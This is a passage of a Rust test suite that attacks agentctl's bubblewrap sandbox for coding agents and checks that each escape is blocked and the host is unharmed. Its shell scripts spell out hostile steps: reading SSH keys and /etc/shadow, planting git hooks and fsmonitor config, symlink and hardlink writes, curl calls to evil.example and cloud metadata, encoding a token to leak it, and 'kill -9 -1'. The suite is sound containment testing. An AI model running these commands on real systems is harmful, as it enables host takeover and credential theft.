//! The sandbox under attack. Scripted agents (`sh -c` scripts run as the `command` agent) try
//! to break out of their bubblewrap sandbox: write outside their worktree (absolute, relative,
//! through symlinks and hardlinks, a symlink swapped in mid-run), plant git hooks and config in
//! the repository, read keys, other runs' files and agentctl's own state, reach the host's
//! loopback, the daemon and private ranges, leak their secrets into the output, signal host
//! processes. Each attempt must fail (or land only in the sandbox's private view) AND leave the
//! host as it was — both are checked. The suite prints `attack suite: N attempts, M blocked`.
//!
//! Also the sandbox's positive paths: an agent doing a normal coding task end to end (edit,
//! test, commit on its branch, `branch_updated`), the proxy letting an allowed domain through,
//! secrets reaching the agent and redacted everywhere, `--sandbox=off` and a missing bubblewrap.
//!
//! Tests marked `#[ignore = "BUG: …"]` are escapes that work today: run them with `--ignored`.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::Value;

use crate::api::Daemon;
use crate::harness::{Env, all_files, contains, events_of, git, stderr, stdout};

// ---------------------------------------------------------------------------------------------
// Helpers

/// `try NAME 'shell code'`: runs the code in a subshell and prints `ATTACK NAME done` when it
/// succeeded inside the sandbox, `ATTACK NAME denied` when it failed.
const TRY: &str = r##"
try() { if (eval "$2") >/dev/null 2>&1; then echo "ATTACK $1 done"; else echo "ATTACK $1 denied"; fi; }
"##;

/// The per-attack results an agent printed (`ATTACK name result`).
fn outcomes(log: &str) -> BTreeMap<String, String> {
    log.lines()
        .filter_map(|l| l.strip_prefix("ATTACK "))
        .filter_map(|r| r.split_once(' '))
        .map(|(name, result)| (name.to_owned(), result.trim().to_owned()))
        .collect()
}

/// The attack suite's tally.
#[derive(Default)]
struct Tally {
    rows: Vec<(String, bool, String)>,
}

impl Tally {
    fn record(&mut self, name: &str, blocked: bool, detail: String) {
        self.rows.push((name.to_owned(), blocked, detail));
    }

    /// An attempt that must fail inside the sandbox and leave the host as it was.
    fn denied(&mut self, out: &BTreeMap<String, String>, name: &str, host_unharmed: bool) {
        let inside = out.get(name).cloned();
        let blocked = inside.as_deref() == Some("denied") && host_unharmed;
        self.record(
            name,
            blocked,
            format!("inside: {inside:?}, host unharmed: {host_unharmed}"),
        );
    }

    /// An attempt that may succeed inside the sandbox's private view (its own tmpfs `/tmp`,
    /// home or root) but must not reach the host. It must have been tried.
    fn contained(&mut self, out: &BTreeMap<String, String>, name: &str, host_unharmed: bool) {
        let inside = out.get(name).cloned();
        let blocked = inside.is_some() && host_unharmed;
        self.record(
            name,
            blocked,
            format!("inside: {inside:?} (private view), host unharmed: {host_unharmed}"),
        );
    }

    /// An HTTP attempt (`ATTACK name <status>`) that must not get a 200.
    fn http(&mut self, out: &BTreeMap<String, String>, name: &str, expect: &str) {
        let inside = out.get(name).cloned().unwrap_or_default();
        self.record(
            name,
            inside == expect,
            format!("status {inside:?}, expected {expect:?}"),
        );
    }

    fn summary(&self) -> (usize, usize, String) {
        let blocked = self.rows.iter().filter(|r| r.1).count();
        let table: String = self
            .rows
            .iter()
            .map(|(name, ok, detail)| format!("  {} {name}: {detail}\n", if *ok { "blocked" } else { "ESCAPED" }))
            .collect();
        (self.rows.len(), blocked, table)
    }
}

/// A loopback HTTP server answering `200 hello` to anything, counting its connections.
struct Listener {
    port: u16,
    hits: Arc<AtomicUsize>,
}

fn http_listener() -> Listener {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counted.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n");
            });
        }
    });
    Listener { port, hits }
}

/// A host process the agent must not be able to signal or inspect.
struct Sleeper(Child);

impl Sleeper {
    fn start(marker: &str) -> Sleeper {
        Sleeper(
            Command::new("sleep")
                .arg("120")
                .env("HOST_ONLY_MARKER", marker)
                .stdin(Stdio::null())
                .spawn()
                .unwrap(),
        )
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
}

impl Drop for Sleeper {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A random-enough string of hex digits (no rand crate here).
fn random_hex(len: usize) -> String {
    use std::hash::{BuildHasher, Hasher};
    let mut out = String::new();
    while out.len() < len {
        let mut h = std::collections::hash_map::RandomState::new().build_hasher();
        h.write_u128(
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_nanos(),
        );
        out.push_str(&format!("{:016x}", h.finish()));
    }
    out.truncate(len);
    out
}

/// Starts a detached run with extra environment; returns its id.
fn start_with(env: &Env, vars: &[(&str, &str)], args: &[&str]) -> String {
    let out = env
        .cmd()
        .envs(vars.iter().copied())
        .args(["--json", "run", "--detach"])
        .args(args)
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", stdout(&out), stderr(&out)));
    assert!(out.status.success(), "run failed: {v}\n{}", stderr(&out));
    v["id"].as_str().unwrap().to_owned()
}

/// What of a repository's git metadata an agent must never change: config, HEAD, hooks, info,
/// packed-refs, every ref but the run branches'.
fn git_metadata(repo: &Path) -> BTreeMap<String, Vec<u8>> {
    let common = repo.join(".git");
    let mut out = BTreeMap::new();
    for name in ["config", "HEAD", "packed-refs", "description"] {
        if let Ok(b) = std::fs::read(common.join(name)) {
            out.insert(name.to_owned(), b);
        }
    }
    for dir in ["hooks", "info"] {
        let mut files = Vec::new();
        all_files(&common.join(dir), &mut files);
        for (p, b) in files {
            out.insert(p.strip_prefix(&common).unwrap().display().to_string(), b);
        }
    }
    out.insert(
        "refs".to_owned(),
        git(repo, &["for-each-ref", "--format=%(refname) %(objectname)"])
            .lines()
            .filter(|l| !l.starts_with("refs/heads/agentctl/") && !l.starts_with("refs/agentctl/"))
            .collect::<Vec<_>>()
            .join("\n")
            .into_bytes(),
    );
    out
}

/// `sha256sum` of `bytes`, in hex.
fn sha256_hex(bytes: &[u8]) -> String {
    let mut child = Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// Percent-encoding of everything but RFC 3986's unreserved characters.
fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Host paths an escaped write would create (removed when the suite ends, however it ends:
/// the tests may run as root).
const HOST_CANARIES: &[&str] = &[
    "/etc/agentctl-sandbox-escape",
    "/usr/agentctl-sandbox-escape",
    "/agentctl-sandbox-escape",
];

/// Removes the canaries when dropped.
struct Canaries;

impl Drop for Canaries {
    fn drop(&mut self) {
        for c in HOST_CANARIES {
            let _ = std::fs::remove_file(c);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Agent scripts

/// Writes outside the worktree. `$1` a host directory outside everything (with `victim.txt`),
/// `$2` the user's checkout, `$3` the caller's home.
const FS_ATTACKS: &str = r##"
OUT=$1; REPO=$2; CH=$3
try hardlink_to_outside_file 'ln "$OUT/victim.txt" hardlink && echo pwned >> hardlink'
try hardlink_to_repo_config 'ln "$(git rev-parse --git-common-dir)/config" hardlink2 && echo pwned >> hardlink2'
try write_outside_tempdir 'mkdir -p "$OUT" && echo pwned > "$OUT/abs.txt"'
try overwrite_outside_file 'echo pwned > "$OUT/victim.txt"'
try write_users_checkout 'echo pwned > "$REPO/README.md" && echo pwned > "$REPO/new-file.txt"'
try write_callers_home 'echo pwned >> "$CH/.bashrc"'
try write_etc 'echo pwned > /etc/agentctl-sandbox-escape'
try write_usr 'echo pwned > /usr/agentctl-sandbox-escape'
try write_fs_root 'echo pwned > /agentctl-sandbox-escape'
try relative_dotdot 'echo pwned > ../../dotdot.txt && echo pwned > ../../../dotdot.txt'
try symlink_to_outside 'ln -s "$OUT" link && echo pwned > link/via-symlink.txt'
try symlink_swapped_in_midrun 'mkdir swap && echo a > swap/f && sleep 0.3 && rm -rf swap && ln -s "$OUT" swap && echo pwned > swap/after-swap.txt'
try remount_git_dir_writable 'mount -o remount,rw,bind "$(git rev-parse --git-common-dir)"'
try nested_user_namespace 'unshare -Ur sh -c "echo pwned >> $(git rev-parse --git-common-dir)/config"'
"##;

/// The repository's git metadata. `$1` a host directory that planted code would touch.
const GIT_ATTACKS: &str = r##"
OUT=$1
common=$(git rev-parse --git-common-dir); gd=$(git rev-parse --git-dir)
try write_repo_hook 'printf "#!/bin/sh\ntouch $OUT/hook-ran\n" > "$common/hooks/post-checkout" && chmod +x "$common/hooks/post-checkout"'
try append_to_sample_hook 'echo "touch $OUT/hook-ran" >> "$common/hooks/pre-commit.sample"'
try git_config_hookspath 'git config core.hooksPath "$OUT"'
try git_config_fsmonitor 'git config core.fsmonitor "touch $OUT/fsmonitor-ran"'
try write_repo_config 'echo "[core] hooksPath = $OUT" >> "$common/config"'
try write_info_attributes 'echo "* filter=evil" >> "$common/info/attributes"'
try write_config_worktree 'echo "[core] hooksPath = $OUT" >> "$gd/config.worktree"'
try write_commondir 'echo "$OUT" > "$gd/commondir"'
try write_gitdir_backlink 'echo "$OUT" > "$gd/gitdir"'
try write_worktree_dotgit 'echo "gitdir: $OUT" > .git'
try remove_worktree_dotgit 'rm -f .git && test ! -e .git'
try move_users_branch 'git -c user.name=a -c user.email=a@b commit -q --allow-empty -m evil && git update-ref refs/heads/main HEAD'
try create_tag 'git tag evil-tag'
try write_packed_refs 'echo "0000000000000000000000000000000000000000 refs/heads/evil" >> "$common/packed-refs"'
try write_repo_head 'echo "ref: refs/heads/evil" > "$common/HEAD"'
try create_branch_ref_file 'git rev-parse HEAD > "$common/refs/heads/evil"'
# A nested repository whose own config runs commands: must not run in agentctl's host-side
# git calls (diff, checkpoint, rm).
git init -q sub && (cd sub && echo data > f && printf '* filter=evil\n' > .gitattributes &&
  git config filter.evil.clean "sh -c 'touch $OUT/nested-filter-ran; cat'" &&
  git add -A && git -c user.name=a -c user.email=a@b commit -qm sub &&
  git config core.fsmonitor "touch $OUT/nested-fsmonitor-ran; false" &&
  echo data2 > f && touch -d 2000-01-01 f) >/dev/null 2>&1 &&
  git add sub >/dev/null 2>&1 && echo "ATTACK plant_nested_repo done"
"##;

/// Reads. `$1` the caller's home (with a fake ssh key), `$2` the state dir, `$3` another run's
/// worktree, `$4` its id, `$5` the user's checkout, `$6` an environment marker of a host process.
const READ_ATTACKS: &str = r##"
FH=$1; STATE=$2; OTHER_WT=$3; OTHER_ID=$4; REPO=$5; HOSTMARK=$6
common=$(git rev-parse --git-common-dir)
try read_ssh_key 'grep -q PRIVATE "$FH/.ssh/id_ed25519"'
try list_ssh_dir 'ls "$FH/.ssh" | grep -q id_'
try read_etc_shadow 'grep -q "root:" /etc/shadow'
try read_other_runs_worktree 'grep -q OTHER-RUN "$OTHER_WT/marker.txt"'
try list_other_worktrees 'ls "$STATE/worktrees" | grep -q "$OTHER_ID"'
try read_other_runs_gitdir 'ls "$common/worktrees" | grep -q "$OTHER_ID"'
try read_other_runs_branch 'git rev-parse -q --verify "refs/heads/agentctl/$OTHER_ID"'
try list_checkpoint_refs 'git for-each-ref refs/agentctl | grep -q .'
try read_daemon_token 'grep -q . "$STATE/daemon/token"'
try read_daemon_tokens_file 'grep -q . "$STATE/daemon/tokens.json"'
try read_state_database 'head -c 16 "$STATE/agentctl.db" | grep -q SQLite'
try read_own_event_log 'grep -q created "$STATE/runs/$AGENTCTL_RUN_ID/events.jsonl"'
try read_untracked_file_in_checkout 'grep -q local "$REPO/local-secret.txt"'
try read_host_process_environ 'cat /proc/[0-9]*/environ 2>/dev/null | grep -qa "$HOSTMARK"'
"##;

/// Network with `--network none`. `$1` a host loopback port, `$2` the daemon's address, `$3`
/// the state dir.
const NET_ATTACKS: &str = r##"
PORT=$1; DADDR=$2; STATE=$3
try host_loopback_port 'curl -s -m 3 -o /dev/null "http://127.0.0.1:$PORT/"'
try host_loopback_raw_tcp 'python3 -c "import socket,sys; socket.create_connection((\"127.0.0.1\", int(sys.argv[1])), 3)" "$PORT"'
try daemon_api_tcp 'curl -s -m 3 -o /dev/null "http://$DADDR/v1/runs"'
try daemon_api_unix_socket 'curl -s -m 3 -o /dev/null --unix-socket "$STATE/daemon/api.sock" http://localhost/v1/runs'
try private_range 'curl -s -m 3 -o /dev/null http://10.0.0.1/'
"##;

/// Through the egress proxy (`--network proxy --allow-domain localhost`, internal addresses not
/// allowed). `$1` a host loopback port.
const PROXY_ATTACKS: &str = r##"
PORT=$1
http() { name=$1; shift; code=$(curl -s -m 3 -o /dev/null -w '%{http_code}' "$@"); echo "ATTACK $name ${code:-000}"; }
tunnel() { name=$1; shift; code=$(curl -s -m 3 -o /dev/null -w '%{http_connect}' "$@"); echo "ATTACK $name ${code:-000}"; }
http proxy_allowed_domain_internal_address "http://localhost:$PORT/"
http proxy_loopback_ip "http://127.0.0.1:$PORT/"
http proxy_mapped_ipv6_loopback "http://[::ffff:127.0.0.1]:$PORT/"
http proxy_zero_address "http://0.0.0.0:$PORT/"
http proxy_private_range "http://10.0.0.1/"
http proxy_cloud_metadata "http://169.254.169.254/latest/meta-data/"
http proxy_not_allowed_domain "http://evil.example/"
tunnel proxy_https_not_allowed_domain "https://evil.example/"
tunnel proxy_connect_tunnel_to_internal -p "http://localhost:$PORT/"
code=$(curl -s -m 3 -o /dev/null -w '%{http_code}' --noproxy '*' "http://127.0.0.1:$PORT/"); echo "ATTACK bypass_proxy ${code:-000}"
"##;

/// Secret exfiltration through the output. `MY_TOKEN` declared, `OTHER_SECRET` not.
const SECRET_ATTACKS: &str = r##"
echo "raw=$MY_TOKEN"
printf %s "$MY_TOKEN" | base64
echo $MY_TOKEN | base64
python3 -c 'import os, urllib.parse; print(urllib.parse.quote(os.environ["MY_TOKEN"], safe=""))'
printf %s "$MY_TOKEN" | od -An -tx1 | tr -d ' \n'; echo
python3 -c 'import os, json; print(json.dumps({"token": os.environ["MY_TOKEN"]}))'
printf %s "$MY_TOKEN" | sha256sum | cut -d' ' -f1 > token.sha256
echo "other=${OTHER_SECRET:-unset}"
"##;

/// Control requests the agent writes itself into its control directory, which the supervisor
/// carries out on the host. `$1` a host directory.
const CONTROL_ATTACKS: &str = r##"
OUT=$1; c=$AGENTCTL_CONTROL_DIR
req() {
  printf '%s' "$2" > "$c/t.$1" && mv "$c/t.$1" "$c/req-$1.json"
  for i in $(seq 1 200); do [ -f "$c/resp-$1.json" ] && break; sleep 0.05; done
  cat "$c/resp-$1.json" 2>/dev/null
}
# The checkpoint has src/lib.txt; src is now a symlink to the host directory.
rm -rf src && ln -s "$OUT" src
r=$(req r1 '{"op":"rollback","request_id":"r1","to":0,"paths":[]}')
case "$r" in *'"ok"'*) echo "ATTACK rollback_through_symlinked_dir done";; *) echo "ATTACK rollback_through_symlinked_dir denied";; esac
r=$(req r2 "{\"op\":\"rollback\",\"request_id\":\"r2\",\"to\":0,\"paths\":[\"../../../../../../..$OUT/lib.txt\"]}")
case "$r" in *'"ok"'*) echo "ATTACK rollback_path_traversal done";; *) echo "ATTACK rollback_path_traversal denied";; esac
"##;

/// Signals. `$1` a host process's pid.
const SIGNAL_ATTACKS: &str = r##"
PID=$1
try kill_host_process 'kill -9 "$PID"'
try list_host_processes 'test "$(ls -d /proc/[0-9]* | wc -l)" -gt 20'
# Only where few processes are visible (a private pid namespace): unconfined, this would
# kill every process of the user.
if [ "$(ls -d /proc/[0-9]* | wc -l)" -le 20 ]; then
  kill -9 -1 2>/dev/null
  echo "ATTACK kill_everything_visible done"
fi
"##;

// ---------------------------------------------------------------------------------------------
// The suite

#[test]
fn attack_suite_72_attempts_72_blocked_and_the_host_unharmed() {
    let started = Instant::now();
    let env = Env::new();
    for c in HOST_CANARIES {
        assert!(!Path::new(c).exists(), "{c} exists before the suite");
    }
    let _canaries = Canaries;
    // The host: a directory outside everything, a caller's home with an ssh key, an
    // untracked file in the user's checkout, a process with a marker in its environment.
    let outside = env.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("victim.txt"), "original\n").unwrap();
    let home = env.dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(
        home.join(".ssh/id_ed25519"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    std::fs::write(env.repo.join("local-secret.txt"), "local only\n").unwrap();
    let readme = std::fs::read(env.repo.join("README.md")).unwrap();
    let host_mark = format!("HOSTMARK{}", random_hex(16));
    let mut sleeper = Sleeper::start(&host_mark);
    let listener = http_listener();
    let port = listener.port.to_string();
    let metadata_before = git_metadata(&env.repo);
    let main_before = git(&env.repo, &["rev-parse", "main"]);
    let token = format!(
        "{}/{}+{}@{}",
        random_hex(8),
        random_hex(8),
        random_hex(8),
        random_hex(5)
    );
    assert_eq!(token.len(), 32);
    let other_secret = format!("OTHERSECRET{}", random_hex(20));

    // Every run goes through a daemon serving the state dir; the agents try to reach it.
    let daemon = Daemon::start(&env);
    let home_s = home.to_str().unwrap();
    let outside_s = outside.to_str().unwrap();
    let repo_s = env.repo.to_str().unwrap();
    let state_s = env.state.to_str().unwrap();
    let vars = [("HOME", home_s)];

    // Run A holds a marker in its worktree while the others run.
    let other = start_with(
        &env,
        &vars,
        &["--", "sh", "-c", "echo OTHER-RUN > marker.txt; sleep 30"],
    );
    let other_wt = PathBuf::from(env.show(&other)["worktree"].as_str().unwrap().to_owned());
    let t = Instant::now();
    while !other_wt.join("marker.txt").exists() {
        assert!(t.elapsed() < Duration::from_secs(20), "run A wrote no marker");
        std::thread::sleep(Duration::from_millis(20));
    }

    let script = |body: &str| format!("{TRY}{body}");
    let fs_script = script(FS_ATTACKS);
    let fs = start_with(
        &env,
        &vars,
        &["--", "sh", "-c", &fs_script, "sh", outside_s, repo_s, home_s],
    );
    let read_script = script(READ_ATTACKS);
    let readrun = start_with(
        &env,
        &vars,
        &[
            "--",
            "sh",
            "-c",
            &read_script,
            "sh",
            home_s,
            state_s,
            other_wt.to_str().unwrap(),
            &other,
            repo_s,
            &host_mark,
        ],
    );
    let net_script = script(NET_ATTACKS);
    let net = start_with(
        &env,
        &vars,
        &["--", "sh", "-c", &net_script, "sh", &port, &daemon.addr, state_s],
    );
    let proxy = start_with(
        &env,
        &vars,
        &[
            "--network",
            "proxy",
            "--allow-domain",
            "localhost",
            "--",
            "sh",
            "-c",
            PROXY_ATTACKS,
            "sh",
            &port,
        ],
    );
    let secrets = start_with(
        &env,
        &[("HOME", home_s), ("MY_TOKEN", &token), ("OTHER_SECRET", &other_secret)],
        &["--secret", "MY_TOKEN", "--", "sh", "-c", SECRET_ATTACKS],
    );
    let control_dir = env.dir.path().join("control-target");
    std::fs::create_dir_all(&control_dir).unwrap();
    let control = start_with(
        &env,
        &vars,
        &["--", "sh", "-c", CONTROL_ATTACKS, "sh", control_dir.to_str().unwrap()],
    );
    let sleeper_pid = sleeper.0.id().to_string();
    let signal_script = script(SIGNAL_ATTACKS);
    let signals = start_with(&env, &vars, &["--", "sh", "-c", &signal_script, "sh", &sleeper_pid]);

    // Last: unconfined, it would break the repository for the runs above.
    let git_script = script(GIT_ATTACKS);
    let gitrun = start_with(&env, &vars, &["--", "sh", "-c", &git_script, "sh", outside_s]);

    let mut tally = Tally::default();
    let mut logs = String::new();
    let mut finished = |id: &str, what: &str| -> BTreeMap<String, String> {
        let v = env.wait(id);
        let log = env.logs(id);
        logs.push_str(&format!("--- {what} ({id}): {}\n{log}", v["state"]));
        let iso = events_of(&env, id, "isolated");
        assert_eq!(iso.len(), 1, "{what}: {iso:?} {v}\n{log}");
        assert_eq!(iso[0]["sandbox"], "on", "{what}: {}", iso[0]);
        assert_eq!(iso[0]["mechanism"], "bubblewrap", "{what}: {}", iso[0]);
        outcomes(&log)
    };

    // 1. Writes outside the worktree.
    let out = finished(&fs, "fs");
    let victim_ok = || std::fs::read_to_string(outside.join("victim.txt")).unwrap() == "original\n";
    let outside_clean = || {
        let mut names: Vec<String> = std::fs::read_dir(&outside)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names == ["victim.txt"] && victim_ok()
    };
    tally.denied(&out, "hardlink_to_outside_file", victim_ok());
    let config_ok = metadata_before.get("config") == git_metadata(&env.repo).get("config");
    tally.denied(&out, "hardlink_to_repo_config", config_ok);
    tally.contained(&out, "write_outside_tempdir", !outside.join("abs.txt").exists());
    tally.contained(&out, "overwrite_outside_file", victim_ok());
    let checkout_ok =
        std::fs::read(env.repo.join("README.md")).unwrap() == readme && !env.repo.join("new-file.txt").exists();
    tally.contained(&out, "write_users_checkout", checkout_ok);
    let bashrc_ok = std::fs::read_to_string(home.join(".bashrc")).unwrap() == "# mine\n";
    tally.contained(&out, "write_callers_home", bashrc_ok);
    tally.denied(&out, "write_etc", !Path::new(HOST_CANARIES[0]).exists());
    tally.denied(&out, "write_usr", !Path::new(HOST_CANARIES[1]).exists());
    // The sandbox's root is a private tmpfs: writable, gone with the sandbox.
    tally.contained(&out, "write_fs_root", !Path::new(HOST_CANARIES[2]).exists());
    let dotdot_ok = !env.state.join("dotdot.txt").exists() && !env.dir.path().join("dotdot.txt").exists();
    tally.contained(&out, "relative_dotdot", dotdot_ok);
    tally.contained(&out, "symlink_to_outside", !outside.join("via-symlink.txt").exists());
    tally.contained(
        &out,
        "symlink_swapped_in_midrun",
        !outside.join("after-swap.txt").exists(),
    );
    tally.denied(&out, "remount_git_dir_writable", config_ok);
    tally.denied(&out, "nested_user_namespace", config_ok);
    // The symlinks it left point outside: agentctl's host-side work on the worktree (diff,
    // checkpoint, rm) must not follow them.
    let fs_wt = PathBuf::from(env.show(&fs)["worktree"].as_str().unwrap().to_owned());
    let planted = std::fs::symlink_metadata(fs_wt.join("link")).is_ok_and(|m| m.is_symlink());
    let diff = env.run(&["diff", &fs]);
    let rm = env.run(&["rm", &fs]);
    tally.record(
        "host_commands_follow_planted_symlinks",
        planted && rm.status.success() && outside_clean(),
        format!(
            "symlink planted: {planted}, diff ok: {}, rm ok: {} ({}), outside untouched: {}",
            diff.status.success(),
            rm.status.success(),
            stderr(&rm).trim(),
            outside_clean()
        ),
    );

    // 2. The repository's git metadata.
    let out = finished(&gitrun, "git");
    let metadata_after = git_metadata(&env.repo);
    let changed: Vec<&String> = metadata_before
        .keys()
        .chain(metadata_after.keys())
        .filter(|k| metadata_before.get(*k) != metadata_after.get(*k))
        .collect();
    let meta_ok = changed.is_empty();
    tally.record("git_metadata_changed", meta_ok, format!("changed: {changed:?}"));
    let no_marker = |name: &str| !outside.join(name).exists();
    tally.denied(&out, "write_repo_hook", meta_ok && no_marker("hook-ran"));
    tally.denied(&out, "append_to_sample_hook", meta_ok);
    tally.denied(&out, "git_config_hookspath", meta_ok);
    tally.denied(&out, "git_config_fsmonitor", meta_ok && no_marker("fsmonitor-ran"));
    tally.denied(&out, "write_repo_config", meta_ok);
    tally.denied(&out, "write_info_attributes", meta_ok);
    let git_show = env.show(&gitrun);
    let git_wt = PathBuf::from(git_show["worktree"].as_str().unwrap());
    let gitdir = env.repo.join(".git/worktrees").join(&gitrun);
    let text = |p: &Path| std::fs::read_to_string(p).unwrap_or_else(|e| format!("<{e}>"));
    tally.denied(
        &out,
        "write_config_worktree",
        text(&gitdir.join("config.worktree")).is_empty(),
    );
    tally.denied(
        &out,
        "write_commondir",
        text(&gitdir.join("commondir")).trim() == "../..",
    );
    tally.denied(
        &out,
        "write_gitdir_backlink",
        Path::new(text(&gitdir.join("gitdir")).trim()) == git_wt.join(".git"),
    );
    let dotgit_ok =
        text(&git_wt.join(".git")).trim() == format!("gitdir: {}", gitdir.canonicalize().unwrap_or_default().display());
    tally.denied(&out, "write_worktree_dotgit", dotgit_ok);
    tally.denied(&out, "remove_worktree_dotgit", dotgit_ok);
    let main_ok = git(&env.repo, &["rev-parse", "main"]) == main_before;
    tally.denied(&out, "move_users_branch", main_ok);
    tally.denied(&out, "create_tag", meta_ok);
    // The common directory is a private tmpfs of read-only binds (git takes its lock files
    // there): a `packed-refs` the repository does not have yet lands in that private view.
    tally.contained(&out, "write_packed_refs", meta_ok);
    tally.denied(&out, "write_repo_head", meta_ok);
    tally.denied(&out, "create_branch_ref_file", meta_ok);
    // Its own branch moved with the commit it made (the private copy synced back).
    let moved = events_of(&env, &gitrun, "branch_updated");
    // The nested repository's commands never run in agentctl's own git calls.
    let diff = env.run(&["diff", &gitrun]);
    let cp = env.run(&["checkpoint", &gitrun]);
    let rm = env.run(&["rm", &gitrun]);
    let nested_ok = no_marker("nested-filter-ran") && no_marker("nested-fsmonitor-ran");
    tally.contained(
        &out,
        "plant_nested_repo",
        nested_ok && diff.status.success() && cp.status.success() && rm.status.success(),
    );

    // 3. Reads.
    let out = finished(&readrun, "read");
    assert!(home.join(".ssh/id_ed25519").exists() && other_wt.join("marker.txt").exists());
    for f in ["daemon/token", "daemon/tokens.json", "agentctl.db"] {
        assert!(env.state.join(f).exists(), "{f} must exist on the host");
    }
    for name in [
        "read_ssh_key",
        "list_ssh_dir",
        "read_etc_shadow",
        "read_other_runs_worktree",
        "list_other_worktrees",
        "read_other_runs_gitdir",
        "read_other_runs_branch",
        "list_checkpoint_refs",
        "read_daemon_token",
        "read_daemon_tokens_file",
        "read_state_database",
        "read_own_event_log",
        "read_untracked_file_in_checkout",
        "read_host_process_environ",
    ] {
        tally.denied(&out, name, true);
    }

    // 4. Network.
    let out = finished(&net, "net");
    for name in [
        "host_loopback_port",
        "host_loopback_raw_tcp",
        "daemon_api_tcp",
        "daemon_api_unix_socket",
        "private_range",
    ] {
        tally.denied(&out, name, true);
    }
    let out = finished(&proxy, "proxy");
    for name in [
        "proxy_allowed_domain_internal_address",
        "proxy_loopback_ip",
        "proxy_mapped_ipv6_loopback",
        "proxy_zero_address",
        "proxy_private_range",
        "proxy_cloud_metadata",
        "proxy_not_allowed_domain",
        "proxy_https_not_allowed_domain",
        "proxy_connect_tunnel_to_internal",
    ] {
        tally.http(&out, name, "403");
    }
    tally.http(&out, "bypass_proxy", "000");
    let hits = listener.hits.load(Ordering::SeqCst);
    tally.record(
        "host_listener_reached",
        hits == 0,
        format!("{hits} connection(s) reached the host's listener"),
    );
    // Each refusal is an event, with why.
    let refused = events_of(&env, &proxy, "network_refused");
    let reason_for = |host: &str, port: u64| {
        refused
            .iter()
            .find(|e| e["host"] == host && e["port"] == port)
            .map(|e| e["reason"].as_str().unwrap().to_owned())
            .unwrap_or_else(|| panic!("no network_refused event for {host}:{port}: {refused:#?}"))
    };
    let p = listener.port as u64;
    assert!(reason_for("localhost", p).contains("internal"), "{refused:#?}");
    for (host, port) in [
        ("127.0.0.1", p),
        ("10.0.0.1", 80),
        ("169.254.169.254", 80),
        ("evil.example", 80),
        ("evil.example", 443),
    ] {
        assert!(reason_for(host, port).contains("not on the allow list"), "{refused:#?}");
    }

    // 5. Secrets: the agent had the value, the output and the state dir never have it.
    // The whole output: read once the run has ended (python is slow to start under load).
    let v = env.wait(&secrets);
    assert_eq!(v["state"], "succeeded", "{v}");
    let out_log = env.logs(&secrets);
    let iso = &events_of(&env, &secrets, "isolated")[0];
    assert_eq!(iso["secrets"], serde_json::json!(["MY_TOKEN"]), "{iso}");
    let wt = PathBuf::from(v["worktree"].as_str().unwrap());
    let agent_sha = std::fs::read_to_string(wt.join("token.sha256")).unwrap();
    assert_eq!(
        agent_sha.trim(),
        sha256_hex(token.as_bytes()),
        "the agent did not get the value"
    );
    let b64 = base64::engine::general_purpose::STANDARD;
    let forms: Vec<(&str, Vec<u8>)> = vec![
        ("raw", token.as_bytes().to_vec()),
        ("base64", b64.encode(token.as_bytes()).into_bytes()),
        (
            // `echo $T | base64`: the first 30 bytes' 40 characters do not depend on the newline.
            "base64 with newline",
            b64.encode(format!("{token}\n")).as_bytes()[..40].to_vec(),
        ),
        ("url-encoded", url_encode(&token).into_bytes()),
        (
            "hex",
            token
                .bytes()
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
                .into_bytes(),
        ),
    ];
    let redactions = out_log.matches("[redacted:MY_TOKEN]").count();
    let in_log: Vec<&str> = forms
        .iter()
        .filter(|(_, f)| contains(out_log.as_bytes(), f))
        .map(|(n, _)| *n)
        .collect();
    tally.record(
        "secret_in_output",
        in_log.is_empty() && redactions >= 6,
        format!("forms in `logs`: {in_log:?}, redactions: {redactions}\n{out_log}"),
    );
    let mut files = Vec::new();
    all_files(&env.state, &mut files);
    let mut stored = Vec::new();
    for (path, bytes) in &files {
        for (name, form) in &forms {
            if contains(bytes, form) {
                stored.push(format!("{name} in {}", path.display()));
            }
        }
    }
    tally.record(
        "secret_in_state_dir",
        stored.is_empty(),
        format!("{} files searched; found: {stored:?}", files.len()),
    );
    let env_stored: Vec<String> = files
        .iter()
        .filter(|(_, b)| contains(b, other_secret.as_bytes()))
